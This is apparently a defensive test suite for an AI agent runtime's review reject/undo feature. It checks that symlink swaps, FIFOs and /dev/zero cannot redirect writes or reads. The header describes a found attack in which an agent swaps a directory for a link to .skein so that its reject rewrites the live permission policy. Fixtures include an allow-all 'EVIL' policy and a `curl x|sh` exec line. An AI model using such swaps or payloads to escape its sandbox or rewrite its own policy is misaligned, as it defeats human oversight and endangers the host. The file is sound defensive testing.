/**
 * A reject or an undo writes, deletes and reads only the files at the paths it recorded, live. A review
 * (6 December) found `review.reject` reading with a plain readFile and writing through the links of the whole
 * workspace: an agent recorded `d/policy.json`, swapped `d` for a link to `.skein` (from its own sandboxed
 * terminal, in a background job after the command's end), and its reject rewrote or deleted the project policy,
 * which reloads live; a sub-agent's reject wrote its parent's file through `sub/d -> ../app`; a link to a file
 * outside was read into the workspace; FIFOs held the host's four pool threads for good and `/dev/zero` was read
 * to 512 MB. The swaps here are made by the test, as the agent's shell would make them. Canaries: the project
 * policy's content, the parent's file, the secret's text in the workspace, a reply that never comes.
 */
import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, readFileSync, renameSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import type { Reply } from '../../infra/transport/codec.ts';
import { ok } from '../support/replies.ts';
import { startTestRuntime, type TestRuntime } from '../support/runtime.ts';

/** Writes allowed, everything else denied: `.skein/` always asks (and nobody answers). */
const POLICY = {
  default: 'deny',
  tools: { write_file: { default: 'allow' }, read_file: { default: 'allow' }, spawn_agent: { default: 'allow' } },
};
const EVIL = '{"default":"allow","CANARY":1}';

describe('hostile: a review acts only at the paths it recorded', () => {
  let rt: TestRuntime | undefined;
  afterEach(async () => {
    await rt?.dispose();
    rt = undefined;
  });

  async function scene() {
    rt = await startTestRuntime({ mode: 'embedded', policy: POLICY });
    const ws = rt.workspace;
    ok(await rt.call('agent.spawn', { label: 'w', agentId: 'w' }));
    const as = (type: string, data: unknown) => rt!.call(type, data, { agentId: 'w', timeoutMs: 10_000 });
    return { rt, ws, as, at: (p: string) => join(ws, p) };
  }

  /** The agent's shell: `dir` becomes a link to `target` (the real directory kept beside it). */
  const swap = (at: (p: string) => string, dir: string, target: string) => {
    renameSync(at(dir), at(`${dir}.real`));
    symlinkSync(target, at(dir));
  };

  const refusedAsMoved = (reply: Reply) => {
    expect(reply.ok).toBe(false);
    if (!reply.ok) {
      expect(reply.error.code).toBe('permission_denied');
      expect(reply.error.message).toMatch(/now leads to .* \(a directory on the way became a link since/);
    }
  };

  it('a reject does not rewrite the project policy through a directory swapped for a link to .skein', async () => {
    const { as, at } = await scene();
    const policy = readFileSync(at('.skein/policy.json'), 'utf8');
    // The direct way asks, and nobody answers.
    const direct = await rt!.call(
      'file.write',
      { path: '.skein/policy.json', content: EVIL },
      { agentId: 'w', timeoutMs: 1_000 },
    );
    expect(direct.ok).toBe(false);
    mkdirSync(at('d'));
    ok(await as('file.write', { path: 'd/policy.json', content: EVIL }));
    ok(await as('review.accept', {}));
    ok(await as('file.write', { path: 'd/policy.json', content: policy }));
    swap(at, 'd', '.skein');
    refusedAsMoved(await as('review.reject', {}));
    expect(readFileSync(at('.skein/policy.json'), 'utf8')).toBe(policy);
    expect(readFileSync(at('d.real/policy.json'), 'utf8')).toBe(policy);
  });

  it('a reject does not delete the project policy the same way', async () => {
    const { as, at } = await scene();
    const policy = readFileSync(at('.skein/policy.json'), 'utf8');
    mkdirSync(at('d'));
    ok(await as('file.write', { path: 'd/policy.json', content: policy }));
    swap(at, 'd', '.skein');
    refusedAsMoved(await as('review.reject', {}));
    expect(existsSync(at('.skein/policy.json'))).toBe(true);
    expect(readFileSync(at('.skein/policy.json'), 'utf8')).toBe(policy);
  });

  it("a sub-agent's reject does not write its parent's file outside its workspace", async () => {
    rt = await startTestRuntime({ mode: 'embedded', policy: { default: 'allow' } });
    const ws = rt.workspace;
    const at = (p: string) => join(ws, p);
    mkdirSync(at('sub/d'), { recursive: true });
    mkdirSync(at('app'));
    const safe = 'module.exports = { safe: true };\n';
    writeFileSync(at('app/config.js'), safe);
    ok(await rt.call('agent.spawn', { label: 'w', agentId: 'w', workspace: at('sub') }));
    const as = (type: string, data: unknown) => rt!.call(type, data, { agentId: 'w', timeoutMs: 10_000 });
    expect((await as('file.write', { path: at('app/config.js'), content: 'x' })).ok).toBe(false);
    ok(await as('file.write', { path: 'd/config.js', content: 'require("child_process").exec("curl x|sh");\n' }));
    ok(await as('review.accept', {}));
    ok(await as('file.write', { path: 'd/config.js', content: safe }));
    swap(at, 'sub/d', '../app');
    refusedAsMoved(await as('review.reject', {}));
    expect(readFileSync(at('app/config.js'), 'utf8')).toBe(safe);
  });

  it('an undo of a reject does not write through a directory swapped since', async () => {
    const { as, at } = await scene();
    const policy = readFileSync(at('.skein/policy.json'), 'utf8');
    mkdirSync(at('d'));
    ok(await as('file.write', { path: 'd/policy.json', content: policy }));
    ok(await as('review.accept', {}));
    ok(await as('file.write', { path: 'd/policy.json', content: EVIL }));
    ok(await as('review.reject', {}));
    swap(at, 'd', '.skein');
    refusedAsMoved(await as('review.undo-reject', {}));
    expect(readFileSync(at('.skein/policy.json'), 'utf8')).toBe(policy);
  });

  it('an undo does not create a deleted file again through a directory made a link to .skein', async () => {
    const { as, at } = await scene();
    mkdirSync(at('d'));
    ok(await as('file.write', { path: 'd/hooks.json', content: EVIL }));
    ok(await as('review.reject', {}));
    expect(existsSync(at('d/hooks.json'))).toBe(false);
    swap(at, 'd', '.skein');
    refusedAsMoved(await as('review.undo-reject', {}));
    expect(existsSync(at('.skein/hooks.json'))).toBe(false);
  });

  it('an undo does not create a deleted file again through a link to a file outside', async () => {
    const { rt, as, at } = await scene();
    ok(await as('file.write', { path: 'leaf.txt', content: 'CANARY leaf\n' }));
    ok(await as('review.reject', {}));
    const outside = join(rt.dir, 'outside-canary.txt');
    symlinkSync(outside, at('leaf.txt'));
    const undo = await as('review.undo-reject', {});
    expect(undo.ok).toBe(false);
    if (!undo.ok) expect(undo.error.message).toMatch(/resolves through a symlink to .*outside the agent's workspace/);
    expect(existsSync(outside)).toBe(false);
  });

  it('a reject reads no file through a link to one outside, nor a FIFO, nor a device', async () => {
    const { rt, as, at } = await scene();
    const secret = join(rt.dir, 'secret.txt');
    writeFileSync(secret, 'TOP-SECRET\n');
    for (const name of ['f0', 'f1', 'f2', 'f3', 'z', 'l']) ok(await as('file.write', { path: name, content: 'x\n' }));
    // Four FIFOs: a plain open of each blocks one of libuv's four pool threads until a writer comes.
    for (const name of ['f0', 'f1', 'f2', 'f3']) {
      renameSync(at(name), at(`${name}.old`));
      execFileSync('mkfifo', [at(name)]);
    }
    renameSync(at('z'), at('z.old'));
    symlinkSync('/dev/zero', at('z'));
    renameSync(at('l'), at('l.old'));
    symlinkSync(secret, at('l'));
    const replies = await Promise.all(
      ['f0', 'f1', 'f2', 'f3', 'z', 'l'].map((name) => as('review.reject', { paths: [at(name)] })),
    );
    for (const reply of replies) expect(reply.ok, JSON.stringify(reply)).toBe(false);
    // The host still reads and writes for everyone.
    ok(await rt.call('file.write', { path: 'after.txt', content: 'fine\n' }, { timeoutMs: 10_000 }));
    expect(readFileSync(secret, 'utf8')).toBe('TOP-SECRET\n');
    for (const name of ['l.old', 'after.txt']) expect(readFileSync(at(name), 'utf8')).not.toContain('TOP-SECRET');
  });
});
